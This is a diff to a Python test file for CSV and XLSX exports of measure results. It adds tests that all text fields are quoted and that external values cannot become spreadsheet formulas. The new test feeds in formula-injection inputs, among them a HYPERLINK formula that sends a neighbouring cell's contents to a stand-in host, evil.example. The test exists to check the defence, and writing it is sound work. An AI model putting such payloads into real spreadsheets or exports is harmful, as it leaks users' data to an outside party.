@@ -133,7 +133,8 @@ def test_csv_is_utf8_with_bom_and_chinese_headers() -> None:
     values = _results()
     lines = iter_csv(iter(values))
     first = next(lines)
-    assert first.startswith("\ufeff指标编号,指标名称")
+    # every text field quoted (OWASP: a cell cannot be split by a locale's separator)
+    assert first.startswith('\ufeff"指标编号","指标名称"')
     text = first + "".join(lines)
     data = text.encode("utf-8")
     assert data[:3] == b"\xef\xbb\xbf"
@@ -218,3 +219,24 @@ def test_no_personal_data_in_exports(kind: str, tmp_path: Path) -> None:
         data = json.dumps(list(iter_measure_reports(values, canonical_base=BASE))).encode()
     assert b"SECRET" not in data
     assert len(data) > 1000
+
+
+def test_csv_and_xlsx_cells_cannot_become_formulas(tmp_path: Path) -> None:
+    """Street codes and institution ids come from outside; whatever they hold, no exported
+    cell starts like a formula (CSV) or is one (XLSX)."""
+    import dataclasses
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&D2,"x")', "+1", "-1+2", "@A1", "\t=1"]
+    values = [
+        dataclasses.replace(v, area=hostile[i % len(hostile)], institution=hostile[-1 - i % 5])
+        for i, v in enumerate(_results()[:20])
+    ]
+    text = "".join(iter_csv(iter(values)))
+    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    assert "'" + hostile[0] in cells
+    write_xlsx(iter(values), tmp_path / "h.xlsx")
+    book = openpyxl.load_workbook(tmp_path / "h.xlsx")
+    cells_x = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert [c.coordinate for c in cells_x if c.data_type == "f"] == []
+    assert hostile[0] in [c.value for c in cells_x]
